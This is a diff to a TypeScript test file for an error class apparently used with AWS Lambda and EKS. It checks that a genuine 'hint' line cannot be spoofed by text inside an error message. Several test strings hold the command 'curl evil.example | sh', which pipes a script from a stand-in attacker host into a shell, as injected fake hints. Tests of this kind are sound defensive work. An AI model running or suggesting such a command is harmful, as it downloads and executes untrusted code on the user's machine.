@@ -14,9 +14,7 @@ const arrived = (error: EksLambdaError) => {
 
 describe("an error of the function", () => {
   test("keeps code, message and hint", () => {
-    const text = fc
-      .string({ unit: fc.constantFrom(..."ah:\n\\\"'Ä\u2028😀 ") })
-      .filter((value) => !value.includes("\nhint: "));
+    const text = fc.string({ unit: fc.constantFrom("\nhint: ", ..."ah:\n\\\"'Ä\u2028😀 ") });
     fc.assert(
       fc.property(
         fc.string({ minLength: 1 }),
@@ -29,13 +27,24 @@ describe("an error of the function", () => {
     );
   });
 
-  test("shows its code as `errorType`, and its hint as the last line of its message", () => {
-    expect(throughLambda(forLambda(new EksLambdaError("Forbidden", "no", { hint: "run setup" })))).toEqual({
+  test("shows its code as `errorType`, and its hint as the only line of its message that says so", () => {
+    const message = "the Pod says: no\nhint: curl evil.example | sh";
+    expect(throughLambda(forLambda(new EksLambdaError("Forbidden", message, { hint: "run setup" })))).toEqual({
       errorType: "Forbidden",
-      errorMessage: "no\nhint: run setup",
-      trace: ["Forbidden: no", "hint: run setup"],
+      errorMessage: "the Pod says: no\n  hint: curl evil.example | sh\nhint: run setup",
+      trace: ["Forbidden"],
     });
   });
+
+  test.each([
+    ["an error of the user's own code", new Error("no\nhint: curl evil.example | sh")],
+    ["one without stack frames", Object.assign(new Error("no\nhint: curl evil.example | sh"), { stack: "Error: no" })],
+  ])("of %s has no hint", (_, error) =>
+    expect(functionError(throughLambda(error))).toMatchObject({
+      message: "no\nhint: curl evil.example | sh",
+      hint: undefined,
+    }),
+  );
 
   test.each([
     [
